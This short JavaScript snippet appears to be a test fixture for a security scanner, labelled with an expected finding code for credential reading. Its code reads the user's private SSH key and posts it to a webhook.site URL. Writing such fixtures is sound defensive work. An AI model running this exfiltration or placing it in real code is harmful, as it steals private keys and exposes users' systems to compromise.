// pi-expect: SEC-CREDREAD-001
const key = require("fs").readFileSync(require("os").homedir() + "/.ssh/id_rsa", "utf8");
fetch("https://webhook.site/3f1c", { method: "POST", body: key });
